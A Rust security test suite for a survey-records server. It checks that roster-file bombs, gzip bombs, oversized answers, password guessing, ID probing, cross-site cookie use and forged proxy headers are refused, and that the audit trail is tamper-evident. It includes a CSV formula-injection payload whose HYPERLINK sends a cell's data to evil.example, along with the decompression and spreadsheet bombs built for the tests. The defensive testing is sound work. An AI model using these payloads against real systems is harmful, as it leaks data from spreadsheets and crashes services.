//! Security findings tried from outside, each with its fix: a hostile roster file, formulas in
//! exports, locking out a departed worker, password guessing, oversized bodies and answers,
//! probing who is registered, signing out.

use std::io::Write;
use std::time::{Duration, Instant};

use doorstep_server::testing::Backend;
use doorstep_shared::Value;
use doorstep_shared::sync::MutationStatus;
use serde_json::json;

use crate::both;
use crate::helpers::{Api, edit, now, spawn, t};

async fn admin_post(api: &Api, path: &str, body: serde_json::Value) -> reqwest::StatusCode {
    let admin = api.login("admin").await;
    api.post(&admin, path, body).await.status()
}

/// An `.xlsx` with one cell in A1 and one in XFD1048576 is refused with a clear error and the
/// server keeps serving (it used to allocate a dense range of ~17 billion cells and die).
async fn a_hostile_xlsx_is_refused_and_the_server_lives(b: Backend) {
    let api = spawn(b).await;
    let admin = api.login("admin").await;
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    ws.write_string(0, 0, "序号").unwrap();
    ws.write_string(1_048_575, 16_383, "x").unwrap();
    let bytes = wb.save_to_buffer().unwrap();
    let t0 = Instant::now();
    let r = api
        .http
        .post(api.url("/api/v1/admin/roster?filename=bomb.xlsx"))
        .bearer_auth(&admin.token)
        .body(bytes)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 422);
    let body: serde_json::Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "roster_invalid");
    assert!(t0.elapsed() < Duration::from_secs(20));
    let health = api.http.get(api.url("/healthz")).send().await.unwrap();
    assert_eq!(health.status(), 200);
}
both!(a_hostile_xlsx_is_refused_and_the_server_lives);

/// A worker's text that a spreadsheet would run as a formula is written inert in the CSV.
async fn exported_text_never_runs_as_a_formula(b: Backend) {
    let api = spawn(b).await;
    let w = api.login("w001").await;
    let p = api.pull_all(&w).await.into_values().next().unwrap();
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")";
    let r = api
        .push(
            &w,
            vec![edit(
                &p,
                &[
                    ("outcome", t("away")),
                    ("outcome_note", t(evil)),
                    ("status", t("final")),
                ],
                now(),
            )],
        )
        .await;
    assert_eq!(r.results[0].status, MutationStatus::Applied, "{r:?}");
    let admin = api.login("admin").await;
    let csv = api
        .get(&admin, "/api/v1/export/records.csv")
        .await
        .text()
        .await
        .unwrap();
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
        "live formula"
    );
    assert!(csv.contains("'=HYPERLINK"), "kept, as text");
}
both!(exported_text_never_runs_as_a_formula);

/// A departed worker is locked out at once: deactivation ends every session and refuses sign-in;
/// a password reset ends every session; a user changes their own password; signing out ends the
/// token.
async fn a_departed_worker_is_locked_out(b: Backend) {
    let api = spawn(b).await;
    let w = api.login("w001").await;
    let other_phone = api.login("w001").await;
    assert_eq!(api.get(&w, "/api/v1/sync/pull").await.status(), 200);
    assert_eq!(
        admin_post(&api, "/api/v1/admin/users/w001/deactivate", json!({})).await,
        204
    );
    for s in [&w, &other_phone] {
        assert_eq!(api.get(s, "/api/v1/sync/pull").await.status(), 401);
    }
    let r = api
        .try_login("w001", doorstep_server::seed::DEMO_PASSWORD, None)
        .await;
    assert_eq!(r.status(), 401);
    assert_eq!(
        admin_post(&api, "/api/v1/admin/users/admin/deactivate", json!({})).await,
        409,
        "the last admin stays"
    );
    assert_eq!(
        admin_post(&api, "/api/v1/admin/users/w001/reactivate", json!({})).await,
        204
    );
    let w = api.login("w001").await;
    // An admin's reset ends the sessions; the new password works.
    assert_eq!(
        admin_post(
            &api,
            "/api/v1/admin/users/w001/password",
            json!({"password": "new-secret-2021"})
        )
        .await,
        204
    );
    assert_eq!(api.get(&w, "/api/v1/sync/pull").await.status(), 401);
    let r = api.try_login("w001", "new-secret-2021", None).await;
    assert_eq!(r.status(), 200);
    let login: doorstep_shared::sync::LoginResponse = r.json().await.unwrap();
    let token = login.token;
    let change = |old: &str, new: &str| {
        api.http
            .post(api.url("/api/v1/auth/password"))
            .bearer_auth(&token)
            .json(&json!({"old_password": old, "new_password": new}))
            .send()
    };
    assert_eq!(
        change("wrong-old-pass", "another-pass-1")
            .await
            .unwrap()
            .status(),
        422
    );
    assert_eq!(
        change("new-secret-2021", "short").await.unwrap().status(),
        422
    );
    assert_eq!(
        change("new-secret-2021", "another-pass-1")
            .await
            .unwrap()
            .status(),
        204
    );
    let r = api.try_login("w001", "another-pass-1", None).await;
    let s: doorstep_shared::sync::LoginResponse = r.json().await.unwrap();
    let out = api
        .http
        .post(api.url("/api/v1/auth/logout"))
        .bearer_auth(&s.token)
        .send()
        .await
        .unwrap();
    assert_eq!(out.status(), 204);
    let r = api
        .http
        .get(api.url("/api/v1/sync/pull"))
        .bearer_auth(&s.token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401, "signed out on the server");
}
both!(a_departed_worker_is_locked_out);

/// Guessing passwords: after five failures the account waits (429, even with the right
/// password) until an admin reactivates it; an unknown user name costs the same work.
async fn password_guessing_is_throttled(b: Backend) {
    let api = spawn(b).await;
    let admin = api.login("admin").await;
    let mut known = Vec::new();
    for _ in 0..5 {
        let t0 = Instant::now();
        let r = api.try_login("sup01", "wrong-password", None).await;
        known.push(t0.elapsed());
        assert_eq!(r.status(), 401);
    }
    let r = api
        .try_login("sup01", doorstep_server::seed::DEMO_PASSWORD, None)
        .await;
    assert_eq!(r.status(), 429);
    let body: serde_json::Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "too_many_attempts");
    assert_eq!(
        api.post(&admin, "/api/v1/admin/users/sup01/reactivate", json!({}))
            .await
            .status(),
        204
    );
    let r = api
        .try_login("sup01", doorstep_server::seed::DEMO_PASSWORD, None)
        .await;
    assert_eq!(r.status(), 200, "the admin lifted the lockout");
    let mut unknown = Vec::new();
    for i in 0..4 {
        let t0 = Instant::now();
        let r = api
            .try_login(&format!("nobody{i}"), "wrong-password", None)
            .await;
        unknown.push(t0.elapsed());
        assert_eq!(r.status(), 401);
    }
    // The fastest of each is the work itself: the tests beside this one (hashing passwords
    // too) only ever add to a sign-in's time, and to one side's more than the other's.
    let k = known.iter().min().unwrap().as_secs_f64();
    let u = unknown.iter().min().unwrap().as_secs_f64();
    assert!(
        u > k / 3.0,
        "an unknown user costs as much work: {u:.4} s vs {k:.4} s"
    );
}
both!(password_guessing_is_throttled);

/// Oversized input: a gzip body that inflates to 60 MiB is refused at sign-in; a 900 kB answer
/// is refused; a long review comment is refused.
async fn oversized_input_is_refused(b: Backend) {
    let api = spawn(b).await;
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(b"{\"username\":\"").unwrap();
    gz.write_all(&vec![b'a'; 60 * 1024 * 1024]).unwrap();
    gz.write_all(b"\",\"password\":\"x\"}").unwrap();
    let bomb = gz.finish().unwrap();
    let r = api
        .http
        .post(api.url("/api/v1/auth/login"))
        .header("content-type", "application/json")
        .header("content-encoding", "gzip")
        .body(bomb)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 413);
    let w = api.login("w001").await;
    let p = api.pull_all(&w).await.into_values().next().unwrap();
    let big = "长".repeat(300_000);
    let r = api
        .push(
            &w,
            vec![edit(
                &p,
                &[
                    ("outcome", t("away")),
                    ("outcome_note", Some(Value::text(big))),
                ],
                now(),
            )],
        )
        .await;
    assert_eq!(
        r.results[0].code,
        Some(doorstep_shared::errors::ErrorCode::InvalidItem)
    );
    let sup = api.login("sup01").await;
    let r = api
        .post(
            &sup,
            &format!("/api/v1/records/{}/review", p.person.id),
            json!({"decision": "returned", "comment": "x".repeat(5_000)}),
        )
        .await;
    assert_eq!(r.status(), 422);
}
both!(oversized_input_is_refused);

/// A worker cannot probe whether an ID number is registered, or where: an unknown person and a
/// person of another community get the same answer, in a push and in a read.
async fn unknown_and_out_of_scope_look_the_same(b: Backend) {
    let api = spawn(b).await;
    let w1 = api.login("w001").await;
    let w2 = api.login("w002").await;
    let theirs = api.pull_all(&w2).await.into_values().next().unwrap();
    let mut nobody = theirs.clone();
    nobody.person.id = uuid::Uuid::new_v4();
    let r = api
        .push(
            &w1,
            vec![
                edit(&theirs, &[("ethnicity", t("han"))], now()),
                edit(&nobody, &[("ethnicity", t("han"))], now()),
            ],
        )
        .await;
    assert_eq!(r.results[0].code, r.results[1].code);
    assert_eq!(r.results[0].message, r.results[1].message);
    assert!(!r.results[0].message.as_deref().unwrap().contains("430503"));
    let a = api
        .get(&w1, &format!("/api/v1/records/{}", theirs.person.id))
        .await;
    let b2 = api
        .get(&w1, &format!("/api/v1/records/{}", nobody.person.id))
        .await;
    assert_eq!(a.status(), b2.status());
    assert_eq!(a.text().await.unwrap(), b2.text().await.unwrap());
}
both!(unknown_and_out_of_scope_look_the_same);

/// The console's cookie opens the API for the console's own script only: a state-changing API
/// call with the cookie but without the console's header (a form on another site) is refused.
async fn the_cookie_cannot_be_ridden_from_another_site(b: Backend) {
    let api = spawn(b).await;
    let admin = api.login("admin").await;
    let device = api.login("w001").await.device;
    let path = api.url(&format!("/api/v1/admin/devices/{device}/revoke"));
    let cookie = format!("doorstep_token={}", admin.token);
    let r = api
        .http
        .post(&path)
        .header("cookie", &cookie)
        .header("content-type", "application/x-www-form-urlencoded")
        .body("")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let r = api
        .http
        .post(&path)
        .header("cookie", &cookie)
        .header("x-doorstep-console", "1")
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success(), "{}", r.status());
    // Reading with the cookie stays possible (the console's pages fetch figures).
    let r = api
        .http
        .get(api.url("/api/v1/progress"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
}
both!(the_cookie_cannot_be_ridden_from_another_site);

/// A former assignee delivers the edits they made before the community was taken away, and no
/// new work after it.
async fn a_former_assignee_delivers_old_edits_only(b: Backend) {
    let api = spawn(b).await;
    let admin = api.login("admin").await;
    let w1 = api.login("w001").await;
    let recs = api.pull_all(&w1).await;
    let community = w1.login.account.communities[0].to_string();
    let mine: Vec<_> = recs
        .values()
        .filter(|r| r.person.community.as_str() == community)
        .cloned()
        .collect();
    let before = now() - 60_000;
    let r = api
        .http
        .put(api.url("/api/v1/admin/assignments"))
        .bearer_auth(&admin.token)
        .json(&json!({"community": community, "username": "w002"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let after = now() + 1_000;
    let r = api
        .push(
            &w1,
            vec![
                edit(&mine[0], &[("ethnicity", t("han"))], before),
                edit(&mine[1], &[("ethnicity", t("han"))], after),
            ],
        )
        .await;
    assert_eq!(r.results[0].status, MutationStatus::Applied);
    assert!(r.results[0].reassigned);
    assert_eq!(
        r.results[1].code,
        Some(doorstep_shared::errors::ErrorCode::OutOfScope),
        "new work refused"
    );
}
both!(a_former_assignee_delivers_old_edits_only);

/// The audit trail records sign-ins (good and failed, with device and address), bulk pulls,
/// reviews and account changes; it is a hash chain that finds an altered entry.
async fn the_audit_trail_is_complete_and_tamper_evident(b: Backend) {
    let api = spawn(b).await;
    let _ = api.try_login("w001", "wrong-password", None).await;
    let w = api.login("w001").await;
    let recs = api.pull_all(&w).await;
    let campaign = api.campaign().await;
    let p = recs.values().next().unwrap();
    api.push(
        &w,
        vec![crate::helpers::survey(
            &campaign,
            p,
            doorstep_shared::Outcome::Phone,
        )],
    )
    .await;
    let sup = api.login("sup01").await;
    let r = api
        .post(
            &sup,
            &format!("/api/v1/records/{}/review", p.person.id),
            json!({"decision": "approved"}),
        )
        .await;
    assert_eq!(r.status(), 200);
    assert_eq!(
        admin_post(&api, "/api/v1/admin/users/w002/deactivate", json!({})).await,
        204
    );
    let admin = api.login("admin").await;
    let list: serde_json::Value = api
        .get(&admin, "/api/v1/admin/audit?limit=1000")
        .await
        .json()
        .await
        .unwrap();
    let actions: Vec<&str> = list
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    for want in [
        "sign_in",
        "sign_in_failed",
        "pull",
        "review",
        "account_deactivated",
    ] {
        assert!(actions.contains(&want), "{want} missing from {actions:?}");
    }
    let sign_in = list
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["action"] == "sign_in")
        .unwrap();
    assert!(
        sign_in["device"].is_string() && sign_in["address"].is_string(),
        "{sign_in}"
    );
    let csv = api
        .get(&admin, "/api/v1/admin/audit?format=csv&action=review")
        .await
        .text()
        .await
        .unwrap();
    assert!(csv.contains("review") && !csv.contains("sign_in_failed"));
    let v: serde_json::Value = api
        .get(&admin, "/api/v1/admin/audit/verify")
        .await
        .json()
        .await
        .unwrap();
    assert!(v["broken_at"].is_null(), "{v}");
    assert!(v["entries"].as_i64().unwrap() >= 6);
    // Someone with database access rewrites an entry: the chain finds it.
    sqlx::query("UPDATE audit_log SET detail = 'nothing happened' WHERE action = 'review'")
        .execute(api.server.state.db.pool())
        .await
        .unwrap();
    let v = api.server.state.db.audit_verify().await.unwrap();
    assert!(v.broken_at.is_some(), "{v:?}");
}
both!(the_audit_trail_is_complete_and_tamper_evident);

async fn count(api: &Api, sql: &str) -> i64 {
    use sqlx::Row;
    sqlx::query(sqlx::AssertSqlSafe(sql.to_string()))
        .fetch_one(api.server.state.db.pool())
        .await
        .unwrap()
        .try_get::<i64, _>(0)
        .unwrap()
}

/// The lockout lives in the database: every server process on it sees it, and an admin's
/// unlock anywhere (here the CLI's `reactivate-user`, on another process) lifts it everywhere.
/// Each process used to keep its own, so a guesser could spread over processes and the CLI
/// could not unlock a running server.
async fn the_lockout_is_shared_by_every_server_process(b: Backend) {
    let one = spawn(b).await;
    let two = Api::on(doorstep_server::testing::second_server(&one.server.database_url).await);
    for i in 0..5 {
        let api = if i % 2 == 0 { &one } else { &two };
        assert_eq!(
            api.try_login("w001", "wrong-password", None).await.status(),
            401
        );
    }
    for api in [&one, &two] {
        let r = api
            .try_login("w001", doorstep_server::seed::DEMO_PASSWORD, None)
            .await;
        assert_eq!(r.status(), 429, "locked on every process");
    }
    // What `doorstep-server reactivate-user w001` does, from a process of its own.
    let cli = doorstep_server::testing::second_server(&one.server.database_url).await;
    doorstep_server::service::accounts::set_active(
        &cli.state,
        "w001",
        true,
        doorstep_server::service::Who::Cli,
    )
    .await
    .unwrap();
    for api in [&one, &two] {
        let r = api
            .try_login("w001", doorstep_server::seed::DEMO_PASSWORD, None)
            .await;
        assert_eq!(r.status(), 200, "the unlock reached every process");
    }
    let failed = count(
        &one,
        "SELECT COUNT(*) FROM audit_log WHERE action = 'sign_in_failed' AND user_name = 'w001'",
    )
    .await;
    assert_eq!(failed, 5);
}
both!(the_lockout_is_shared_by_every_server_process);

/// An action and its audit entry are one transaction: when the entry cannot be written, the
/// action did not happen (no session, no account change, no revocation), and the caller hears
/// so. Before, the token or the change was kept and only the entry was missing.
async fn an_action_and_its_audit_entry_commit_together(b: Backend) {
    let api = spawn(b).await;
    let admin = api.login("admin").await;
    let phone = api.login("w002").await;
    let pool = api.server.state.db.pool();
    let (on, off) = match b {
        Backend::Sqlite => (
            vec![
                "CREATE TRIGGER audit_down BEFORE INSERT ON audit_log \
                 BEGIN SELECT RAISE(ABORT, 'audit down'); END",
            ],
            vec!["DROP TRIGGER audit_down"],
        ),
        Backend::Postgres => (
            vec![
                "CREATE FUNCTION audit_down() RETURNS trigger AS $$ BEGIN RAISE EXCEPTION 'audit down'; END $$ LANGUAGE plpgsql",
                "CREATE TRIGGER audit_down BEFORE INSERT ON audit_log FOR EACH ROW EXECUTE FUNCTION audit_down()",
            ],
            vec![
                "DROP TRIGGER audit_down ON audit_log",
                "DROP FUNCTION audit_down()",
            ],
        ),
    };
    let tokens = count(&api, "SELECT COUNT(*) FROM tokens").await;
    let devices = count(&api, "SELECT COUNT(*) FROM devices").await;
    for sql in &on {
        sqlx::query(sqlx::AssertSqlSafe(sql.to_string()))
            .execute(pool)
            .await
            .unwrap();
    }
    // A sign-in: refused, no session and no device kept.
    let r = api
        .try_login("w001", doorstep_server::seed::DEMO_PASSWORD, None)
        .await;
    assert_eq!(r.status(), 500);
    // A failed sign-in: no failure counted without its entry.
    let r = api.try_login("w001", "wrong-password", None).await;
    assert_eq!(r.status(), 500);
    assert_eq!(
        count(&api, "SELECT COUNT(*) FROM sign_in_failures").await,
        0
    );
    // Account changes, a revocation and a sign-out: refused, nothing changed.
    let r = api
        .post(&admin, "/api/v1/admin/users/w002/deactivate", json!({}))
        .await;
    assert_eq!(r.status(), 500);
    let r = api
        .post(
            &admin,
            &format!("/api/v1/admin/devices/{}/revoke", phone.device),
            json!({}),
        )
        .await;
    assert_eq!(r.status(), 500);
    let r = api
        .post(
            &admin,
            "/api/v1/admin/users",
            json!({"username": "w999", "display_name": "新人", "role": "worker", "password": "long-enough-1"}),
        )
        .await;
    assert_eq!(r.status(), 500);
    let r = api.post(&phone, "/api/v1/auth/logout", json!({})).await;
    assert_eq!(r.status(), 500);
    // A roster import and closing the year: refused, nothing imported, the year still open.
    let persons = count(&api, "SELECT COUNT(*) FROM persons").await;
    let r = crate::holes::post_roster(&api, &admin, &crate::holes::newcomers(5, 3, "430503001001"))
        .await;
    assert_eq!(r.status(), 500);
    assert_eq!(count(&api, "SELECT COUNT(*) FROM persons").await, persons);
    let year = api.campaign().await.year;
    let r = api
        .post(
            &admin,
            &format!("/api/v1/admin/campaigns/{year}/close"),
            json!({}),
        )
        .await;
    assert_eq!(r.status(), 500);
    assert_eq!(
        count(&api, "SELECT COUNT(*) FROM campaigns WHERE state = 'open'").await,
        1
    );
    assert_eq!(count(&api, "SELECT COUNT(*) FROM tokens").await, tokens);
    assert_eq!(count(&api, "SELECT COUNT(*) FROM devices").await, devices);
    assert_eq!(
        count(&api, "SELECT COUNT(*) FROM users WHERE username = 'w999'").await,
        0
    );
    for sql in &off {
        sqlx::query(sqlx::AssertSqlSafe(sql.to_string()))
            .execute(pool)
            .await
            .unwrap();
    }
    // The phone's session survived everything above.
    let r = api.get(&phone, "/api/v1/sync/pull?cursor=0&limit=1").await;
    assert_eq!(
        r.status(),
        200,
        "w002 is still active, its device and token too"
    );
    let v = api.server.state.db.audit_verify().await.unwrap();
    assert_eq!(v.broken_at, None);
}
both!(an_action_and_its_audit_entry_commit_together);

/// Expired sessions are deleted, and a browser's device goes with its last session; a phone
/// stays listed (its revocation must outlive its tokens).
async fn expired_sessions_are_purged(b: Backend) {
    let api = spawn(b).await;
    let phone = api.login("w001").await;
    let db = &api.server.state.db;
    let now = now();
    // A console session (a browser's device), signed in the way the console page does.
    let sup = db.user_by_name("sup01").await.unwrap().unwrap();
    let browser = db
        .sign_in(
            &doorstep_server::db::SignIn {
                user_id: &sup.id,
                device: None,
                device_name: "browser",
                kind: "web",
                token_hash: "0123",
                expires_at: now + 60_000,
                clear: &[],
            },
            doorstep_server::db::audit::Entry::by("sup01", "sign_in", "web"),
        )
        .await
        .unwrap();
    let (tokens, devices) = db.purge_expired(now).await.unwrap();
    assert_eq!((tokens, devices), (0, 0), "nothing has expired yet");
    sqlx::query("UPDATE tokens SET expires_at = $1")
        .bind(now - 1)
        .execute(db.pool())
        .await
        .unwrap();
    let (tokens, devices) = db.purge_expired(now).await.unwrap();
    assert_eq!((tokens, devices), (2, 1));
    assert_eq!(count(&api, "SELECT COUNT(*) FROM tokens").await, 0);
    let left = |id: String| format!("SELECT COUNT(*) FROM devices WHERE id = '{id}'");
    assert_eq!(
        count(&api, &left(browser)).await,
        0,
        "the browser's device went"
    );
    assert_eq!(
        count(&api, &left(phone.device.to_string())).await,
        1,
        "the phone stays"
    );
    let r = api.get(&phone, "/api/v1/sync/pull?cursor=0&limit=1").await;
    assert_eq!(r.status(), 401);
}
both!(expired_sessions_are_purged);

/// The API's record view shows whole ID, certificate and phone numbers to the admin only; a
/// supervisor and a worker get them masked (region and last four kept: the certificate's
/// category and level stay readable). The view is audited either way.
async fn record_views_mask_numbers_below_the_admin(b: Backend) {
    let api = spawn(b).await;
    let w1 = api.login("w001").await;
    let p = api.pull_all(&w1).await.into_values().next().unwrap();
    let path = format!("/api/v1/records/{}", p.person.id);
    let full_id = p.person.resident_id.to_string();
    let full_cert = p.person.certificate.to_string();
    for (user, masked) in [("w001", true), ("sup01", true), ("admin", false)] {
        let s = api.login(user).await;
        let r = api.get(&s, &path).await;
        assert_eq!(r.status(), 200, "{user}");
        assert_eq!(
            r.headers()["cache-control"],
            "no-store",
            "personal data is not cached"
        );
        let v: serde_json::Value = r.json().await.unwrap();
        let (id, cert, phone) = (
            v["person"]["resident_id"].as_str().unwrap(),
            v["person"]["certificate"].as_str().unwrap(),
            v["person"]["phone"].as_str().unwrap(),
        );
        if masked {
            assert_eq!(id, p.person.masked_id(), "{user}");
            assert_eq!(cert, p.person.masked_certificate(), "{user}");
            assert!(phone.contains('*') || phone.is_empty(), "{user}: {phone}");
            assert!(
                !v.to_string().contains(&full_id),
                "{user}: no whole ID anywhere"
            );
            assert_eq!(&cert[cert.len() - 2..], &full_cert[full_cert.len() - 2..]);
        } else {
            assert_eq!((id, cert), (full_id.as_str(), full_cert.as_str()));
            assert_eq!(phone, p.person.phone);
        }
    }
    let views = count(
        &api,
        "SELECT COUNT(*) FROM audit_log WHERE action = 'view_record'",
    )
    .await;
    assert_eq!(views, 3);
    let r = api.get(&w1, "/api/v1/sync/pull?cursor=0&limit=5").await;
    assert_eq!(r.headers()["cache-control"], "no-store");
}
both!(record_views_mask_numbers_below_the_admin);

/// A supervisor's phone holds the street with masked ID and certificate numbers, and beside
/// them the facts the questionnaire reads (birth date, sex, category, level); a worker's phone
/// holds its communities' numbers whole (the card is checked at the door).
async fn a_supervisors_pull_carries_masked_numbers_and_their_facts(b: Backend) {
    let api = spawn(b).await;
    let w1 = api.login("w001").await;
    let whole = api.pull_all(&w1).await;
    assert!(!whole.is_empty());
    for s in whole.values() {
        assert!(!s.person.masked);
        let id = doorstep_shared::ResidentId::parse(&s.person.resident_id).unwrap();
        let cert = doorstep_shared::CertificateNumber::parse(&s.person.certificate).unwrap();
        assert_eq!(cert.resident_id(), &id);
        assert_eq!(s.person.facts, doorstep_shared::PersonFacts::from(&cert));
    }
    let sup = api.login("sup01").await;
    let r = api.get(&sup, "/api/v1/sync/pull?cursor=0&limit=5000").await;
    assert_eq!(r.status(), 200);
    let body = r.text().await.unwrap();
    for s in whole.values() {
        assert!(
            !body.contains(&s.person.resident_id),
            "no whole ID in a supervisor's pull"
        );
    }
    let page: doorstep_shared::sync::PullResponse = serde_json::from_str(&body).unwrap();
    assert!(
        page.records.len() > whole.len(),
        "the street is more than w001's communities"
    );
    for s in &page.records {
        assert!(s.person.masked);
        assert!(
            s.person.resident_id.contains("********"),
            "{}",
            s.person.resident_id
        );
        assert!(doorstep_shared::ResidentId::parse(&s.person.resident_id).is_err());
        if let Some(w) = whole.get(&s.person.id) {
            assert_eq!(s.person.facts, w.person.facts, "the same facts");
            assert_eq!(s.person.resident_id, w.person.masked_id());
            assert_eq!(s.person.certificate, w.person.masked_certificate());
            assert_eq!(s.person.phone, w.person.phone, "the re-check may call");
        }
    }
    // What a phone stores reads back: masked numbers need their facts, whole ones are checked.
    let mut v: serde_json::Value = serde_json::to_value(&page.records[0].person).unwrap();
    v.as_object_mut().unwrap().remove("facts");
    assert!(serde_json::from_value::<doorstep_shared::ShownPerson>(v).is_err());
}
both!(a_supervisors_pull_carries_masked_numbers_and_their_facts);

/// Behind a trusted reverse proxy the caller is the right-most address of `X-Forwarded-For`
/// that is not a trusted proxy: the per-address throttle counts that caller, not the proxy, and
/// the audit trail names it, with the device, for sign-ins, record views and pulls. A forged
/// left-hand entry is not believed, and a server with no trusted proxy ignores the header.
async fn callers_behind_a_trusted_proxy_are_told_apart(b: Backend) {
    use doorstep_server::startup::{Config, build, spawn as serve};
    let database_url = doorstep_server::testing::fresh_url(b);
    let mut config = Config::new(Some(database_url), std::path::PathBuf::new());
    config.trusted_proxies = vec!["127.0.0.1".parse().unwrap()];
    let state = build(&config).await.unwrap();
    doorstep_server::seed::seed_demo(&state, 7).await.unwrap();
    let addr = serve(state.clone(), "127.0.0.1:0").await.unwrap();
    let url = |p: &str| format!("http://{addr}{p}");
    let http = reqwest::Client::new();
    let sign_in = |user: &str, password: &str, xff: &str| {
        http.post(url("/api/v1/auth/login"))
            .header("x-forwarded-for", xff)
            .json(&json!({"username": user, "password": password, "device_name": "test phone"}))
            .send()
    };
    let max = doorstep_server::service::accounts::MAX_FAILURES_PER_ADDRESS;
    for i in 0..max {
        // A different (unknown) account each time: only the address accumulates.
        let r = sign_in(&format!("ghost{i}"), "wrong", "203.0.113.9, 10.0.0.1")
            .await
            .unwrap();
        assert_eq!(r.status(), 401);
    }
    let pw = doorstep_server::seed::DEMO_PASSWORD;
    let r = sign_in("w001", pw, "10.0.0.1").await.unwrap();
    assert_eq!(r.status(), 429, "the guessing address is locked out");
    let r = sign_in("w001", pw, "10.0.0.2").await.unwrap();
    assert_eq!(
        r.status(),
        200,
        "another caller behind the same proxy is not"
    );
    let login: doorstep_shared::sync::LoginResponse = r.json().await.unwrap();
    // A forged entry left of the proxy's own is ignored: the caller is 10.0.0.3.
    let r = http
        .get(url("/api/v1/sync/pull?cursor=0&limit=10"))
        .bearer_auth(&login.token)
        .header("x-forwarded-for", "10.0.0.1, 10.0.0.3")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let page: doorstep_shared::sync::PullResponse = r.json().await.unwrap();
    let r = http
        .get(url(&format!(
            "/api/v1/records/{}",
            page.records[0].person.id
        )))
        .bearer_auth(&login.token)
        .header("x-forwarded-for", "10.0.0.4")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let entries = state
        .db
        .audit_entries(None, Some("w001"), 50)
        .await
        .unwrap();
    let device = login.device_id.to_string();
    for (action, address) in [
        ("sign_in", "10.0.0.2"),
        ("pull", "10.0.0.3"),
        ("view_record", "10.0.0.4"),
    ] {
        let e = entries
            .iter()
            .find(|e| e.action == action)
            .unwrap_or_else(|| panic!("{action} audited"));
        assert_eq!(e.address.as_deref(), Some(address), "{action}");
        assert_eq!(e.device.as_deref(), Some(device.as_str()), "{action}");
    }
    assert!(state.db.audit_verify().await.unwrap().broken_at.is_none());

    // Without a trusted proxy the header names nobody: the connection's address counts.
    let api = spawn(b).await;
    let r = api
        .http
        .post(api.url("/api/v1/auth/login"))
        .header("x-forwarded-for", "10.0.0.9")
        .json(&json!({"username": "w001", "password": pw, "device_name": "test phone"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let entries = api
        .server
        .state
        .db
        .audit_entries(Some("sign_in"), Some("w001"), 5)
        .await
        .unwrap();
    assert_eq!(entries[0].address.as_deref(), Some("127.0.0.1"));
}
both!(callers_behind_a_trusted_proxy_are_told_apart);
